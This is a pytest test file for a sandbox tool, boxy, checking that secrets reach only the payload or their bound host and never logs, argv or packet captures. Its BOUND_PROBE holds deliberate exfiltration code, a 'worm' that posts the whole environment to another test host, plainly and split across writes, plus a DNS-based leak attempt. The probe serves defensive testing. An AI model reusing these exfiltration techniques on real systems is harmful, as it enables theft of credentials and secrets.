"""--secret NAME: the value from boxyctl's environment reaches the payload's environment
and nowhere else — not an argv, boxyd's log, the audit log, the net log, a session
record or an error message. Every one of them is read back after a run with network."""

from __future__ import annotations

import base64
import hashlib
import subprocess
from pathlib import Path

import pytest

from tests.conftest import NetBoxy
from tests.harness.topology import Topology

pytestmark = pytest.mark.sandbox

SECRET = "boxy-secret-3f1c9a7e-not-for-logs"
PROBE = (
    "import hashlib, os, urllib.request\n"
    "v = os.environ.get('BOXY_TEST_TOKEN', '')\n"
    "print('HASH', hashlib.sha256(v.encode()).hexdigest())\n"
    "urllib.request.urlopen('http://www.boxy.test/', timeout=5).read()\n"
)


def _everything_under(path: Path) -> bytes:
    out = b""
    for f in path.rglob("*"):
        if f.is_file() and not f.is_symlink():
            out += f.read_bytes()
    return out


def test_a_secret_reaches_the_payload_and_nothing_else(netboxy: NetBoxy, net: Topology) -> None:
    seen: list[bytes] = []
    ps = subprocess.Popen(
        ["sh", "-c", "for i in $(seq 40); do ps -eo args; sleep 0.1; done"], stdout=subprocess.PIPE
    )  # every argv on the machine, during the run
    try:
        r = netboxy.run(
            "--net",
            "allowlist",
            "--allow-host",
            "www.boxy.test",
            "--secret",
            "BOXY_TEST_TOKEN",
            "--audit-log",
            "audit.jsonl",
            "--net-log",
            "net.json",
            "-v",
            cmd=["python3", "-c", PROBE],
            extra_env={"BOXY_TEST_TOKEN": SECRET},
        )
    finally:
        ps.kill()
        seen.append(ps.communicate()[0])
    assert r.returncode == 0, r.stderr
    assert f"HASH {hashlib.sha256(SECRET.encode()).hexdigest()}".encode() in r.stdout  # delivered
    env = netboxy.env()
    places = {
        "client output": r.stdout + r.stderr,
        "audit log": (netboxy.workdir / "audit.jsonl").read_bytes(),
        "net log": (netboxy.workdir / "net.json").read_bytes(),
        "state (records, quarantine, boxyd's log)": _everything_under(Path(env["XDG_STATE_HOME"])),
        "argv of every process": b"".join(seen),
    }
    assert places["audit log"] and places["net log"]  # really written
    leaked = [where for where, data in places.items() if SECRET.encode() in data]
    assert not leaked, f"ESCAPED: the secret is in {leaked}"


def test_a_profile_passes_secrets_by_name_and_makes_its_tmpfs(
    netboxy: NetBoxy, net: Topology
) -> None:
    """env_secrets: boxyctl learns the names from boxyd (SecretsNeeded) and sends the
    values from its own environment; filesystem.tmpfs: an empty writable directory."""
    profile = netboxy.workdir / "secretive.yaml"
    profile.write_text(
        "net: allowlist\nallow_hosts: [www.boxy.test]\nenv_secrets: [BOXY_TEST_TOKEN]\n"
        "filesystem: {tmpfs: [/opt/scratch]}\n"
    )
    netboxy.user.chown(profile)
    probe = PROBE + (
        "print('TMPFS', os.listdir('/opt/scratch'))\n"
        "open('/opt/scratch/x', 'w').write('w')\nprint('WROTE', os.listdir('/opt/scratch'))\n"
    )
    r = netboxy.run(
        "-p",
        str(profile),
        "--audit-log",
        "audit.jsonl",
        "-v",
        cmd=["python3", "-c", probe],
        extra_env={"BOXY_TEST_TOKEN": SECRET},
    )
    assert r.returncode == 0, r.stderr
    assert f"HASH {hashlib.sha256(SECRET.encode()).hexdigest()}".encode() in r.stdout
    assert b"TMPFS []" in r.stdout and b"WROTE ['x']" in r.stdout
    env = netboxy.env()
    places = {
        "client output": r.stdout + r.stderr,
        "audit log": (netboxy.workdir / "audit.jsonl").read_bytes(),
        "state": _everything_under(Path(env["XDG_STATE_HOME"])),
    }
    leaked = [where for where, data in places.items() if SECRET.encode() in data]
    assert not leaked, f"ESCAPED: the secret is in {leaked}"
    missing = netboxy.run("-p", str(profile), cmd=["true"])  # not in boxyctl's environment
    assert missing.returncode == 2
    assert b"env_secrets BOXY_TEST_TOKEN: not set in your environment" in missing.stderr


# --secret NAME@HOST: the payload holds a placeholder; the value reaches www's TLS server
# in the requests' headers, and nothing the payload or boxy's records can read.
BOUND_PROBE = r"""
import base64, json, os, socket, ssl, subprocess, urllib.error, urllib.request
ph = os.environ["BOXY_TEST_TOKEN"]
print("PLACEHOLDER", ph)
def get(url, **headers):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10).status
    except urllib.error.HTTPError as e:
        return e.code
    except Exception as e:
        return type(e).__name__
print("BEARER", get("https://www.boxy.test/record-bearer", Authorization="Bearer " + ph))
basic = base64.b64encode(("x-access-token:" + ph).encode()).decode()
print("BASIC", get("https://www.boxy.test/record-basic", Authorization="Basic " + basic))
# the worm: the environment posted to another allowed host, in plaintext
try:
    urllib.request.urlopen(urllib.request.Request("http://v4only.boxy.test/", data=json.dumps(dict(os.environ)).encode()), timeout=10)
    print("WORM sent")
except urllib.error.HTTPError as e:
    print("WORM", e.code)
except Exception as e:
    print("WORM", type(e).__name__)
# the worm again, its body sent apart from its headers: the placeholder is past the
# first record, so only a look at every byte finds it
body = json.dumps(dict(os.environ)).encode()
with socket.create_connection(("v4only.boxy.test", 80), timeout=10) as s:
    s.sendall(b"POST /worm-split HTTP/1.1\r\nHost: v4only.boxy.test\r\nContent-Length: "
              + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n")
    import time; time.sleep(0.3)
    try:
        s.sendall(body)
        reply = b""
        while chunk := s.recv(65536):
            reply += chunk
        print("WORM2", "received" if b'"received"' in reply else "nothing", len(reply))
    except OSError as e:
        print("WORM2 cut", type(e).__name__)
try:
    socket.getaddrinfo(ph.lower()[-20:] + ".boxy.test", 443)
    print("DNS resolved")
except socket.gaierror:
    print("DNS refused")
# a host that is no secret's: its own certificate, end to end
ctx = ssl.create_default_context(cafile="test-ca.pem")
with socket.create_connection(("v4only.boxy.test", 443), timeout=10) as s:
    with ctx.wrap_socket(s, server_hostname="v4only.boxy.test") as t:
        print("OTHER issuer", dict(x[0] for x in t.getpeercert()["issuer"]).get("commonName"))
try:
    urllib.request.urlopen("https://v4only.boxy.test/", timeout=10)
    print("OTHER trusted by the session bundle")
except Exception as e:
    print("OTHER not intercepted", type(e).__name__)
# a program that reads no variable: the system's own bundle trusts the session CA too
sysctx = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
req = urllib.request.Request("https://www.boxy.test/record-system", headers={"Authorization": "Bearer " + ph})
print("SYSTEM", urllib.request.urlopen(req, timeout=10, context=sysctx).status)
curl = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-H",
                       "Authorization: Bearer " + ph, "https://www.boxy.test/record-curl"],
                      capture_output=True, text=True)
print("CURL", curl.stdout, curl.stderr.strip()[:200])
"""


def test_a_bound_secret_reaches_its_host_alone(netboxy: NetBoxy, net: Topology) -> None:
    from tests.escape.netutil import install_ca

    install_ca(net, netboxy.workdir, netboxy.user, "test-ca.pem")
    net.reset_records()
    r = netboxy.run(
        "--net", "allowlist", "--allow-host", "www.boxy.test", "--allow-host", "v4only.boxy.test",
        "--secret", "BOXY_TEST_TOKEN@www.boxy.test", "--audit-log", "audit.jsonl",
        "--net-log", "net.json", "--pcap", "cap.pcap", "-v",
        cmd=["python3", "-c", BOUND_PROBE],
        extra_env={"BOXY_TEST_TOKEN": SECRET},
    )  # fmt: skip
    out = r.stdout.decode()
    assert r.returncode == 0, r.stderr
    ph = out.split("PLACEHOLDER ", 1)[1].split()[0]
    assert ph != SECRET and len(ph) == len(SECRET)
    assert [c for c in ph if not c.isalnum()] == [c for c in SECRET if not c.isalnum()]
    assert "BEARER 200" in out and "BASIC 200" in out, out
    seen = {
        e["path"]: e.get("authorization")
        for e in net.server_events("www")
        if e.get("kind") == "http"
    }
    assert seen.get("/record-bearer") == f"Bearer {SECRET}", seen
    basic = base64.b64encode(f"x-access-token:{SECRET}".encode()).decode()
    assert seen.get("/record-basic") == f"Basic {basic}", seen
    assert "CURL 200" in out and seen.get("/record-curl") == f"Bearer {SECRET}", out
    assert "SYSTEM 200" in out and seen.get("/record-system") == f"Bearer {SECRET}", out
    # the placeholder in a plaintext first record (a 403), or past it (the flow cut): the
    # env's body never reaches v4only either way (WORM2 sends it apart, deterministically)
    assert "WORM sent" not in out and "WORM " in out, out
    assert "WORM2 received" not in out, f"ESCAPED: the worm's body reached v4only: {out}"
    assert "WORM2 cut" in out or "WORM2 nothing" in out, out
    assert "DNS refused" in out, out
    assert "OTHER issuer boxy test CA" in out or "OTHER issuer" in out and "session" not in out
    assert "OTHER not intercepted" in out, out
    assert "a secret's placeholder was sent to v4only.boxy.test: refused" in r.stderr.decode()
    env = netboxy.env()
    places = {
        "the payload's output": r.stdout,
        "client output": r.stderr,
        "audit log": (netboxy.workdir / "audit.jsonl").read_bytes(),
        "net log": (netboxy.workdir / "net.json").read_bytes(),
        "pcap": (netboxy.workdir / "cap.pcap").read_bytes(),
        "state (records, quarantine, boxyd's log)": _everything_under(Path(env["XDG_STATE_HOME"])),
    }
    assert places["audit log"] and places["pcap"]
    leaked = [where for where, data in places.items() if SECRET.encode() in data]
    assert not leaked, f"ESCAPED: the secret is in {leaked}"
    audit = places["audit log"].decode()
    assert '"net.secret"' in audit and "swap" in audit


PROFILE_PROBE = r"""
import os, urllib.request
ph = os.environ["BOXY_TEST_TOKEN"]
print("PLACEHOLDER", ph)
req = urllib.request.Request("https://www.boxy.test/record-profile", headers={"Authorization": "Bearer " + ph})
print("STATUS", urllib.request.urlopen(req, timeout=10).status)
"""


def test_a_profile_binds_a_secret_to_its_host(netboxy: NetBoxy, net: Topology) -> None:
    """env_secrets NAME@HOST: boxyctl sends the value by name, as for a plain entry, and
    the payload gets the placeholder, even with the flag passing the name plainly."""
    from tests.escape.netutil import install_ca

    install_ca(net, netboxy.workdir, netboxy.user, "test-ca.pem")
    profile = netboxy.workdir / "bound.yaml"
    profile.write_text(
        "net: allowlist\nallow_hosts: [www.boxy.test]\n"
        "env_secrets: ['BOXY_TEST_TOKEN@www.boxy.test']\n"
    )
    netboxy.user.chown(profile)
    net.reset_records()
    for extra in ((), ("--secret", "BOXY_TEST_TOKEN")):  # asked for by name; a plain flag
        r = netboxy.run(
            "-p", str(profile), *extra, cmd=["python3", "-c", PROFILE_PROBE],
            extra_env={"BOXY_TEST_TOKEN": SECRET},
        )  # fmt: skip
        out = r.stdout.decode()
        assert r.returncode == 0, r.stderr
        ph = out.split("PLACEHOLDER ", 1)[1].split()[0]
        assert ph != SECRET and len(ph) == len(SECRET), f"ESCAPED: the payload read {ph}"
        assert "STATUS 200" in out, out
    seen = [
        e.get("authorization")
        for e in net.server_events("www")
        if e.get("kind") == "http" and e.get("path") == "/record-profile"
    ]
    assert seen == [f"Bearer {SECRET}"] * 2, seen
